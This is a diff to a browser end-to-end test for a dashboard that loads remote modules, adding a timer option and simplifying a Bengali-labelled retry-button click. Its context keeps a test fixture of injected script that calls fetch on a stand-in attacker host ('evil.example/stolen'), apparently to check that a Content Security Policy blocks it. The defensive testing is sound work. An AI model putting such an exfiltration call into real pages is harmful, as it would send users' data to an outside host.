@@ -9,6 +9,7 @@ const EVIL = 'https://evil.example';
 const CODE = `globalThis.evil = true; fetch('${EVIL}/stolen').catch(() => undefined);`;
 const AWAY = 'দুঃখিত, এই অংশটি লোড করা যায়নি।';
 const options = {
+  longestTimer: 5000,
   expects: [
     ...EXPECTED,
     /Content Security Policy/,
@@ -129,10 +130,7 @@ it('P5: a remote entry that hangs is reported within five seconds, the dashboard
     await login(page);
     await breakFiles(page, /\/remotes\/admin\/static\/remoteEntry/, hangFirst());
     await page.goto('/dashboard', { waitUntil: 'commit' });
-    await page
-      .getByRole('status')
-      .getByRole('button', { name: 'আবার চেষ্টা করুন' })
-      .click({ timeout: 6500 });
+    await page.getByRole('status').getByRole('button', { name: 'আবার চেষ্টা করুন' }).click();
     await page.getByRole('main').getByRole('heading', { level: 1 }).waitFor();
     await nothingEvil(visit);
   });
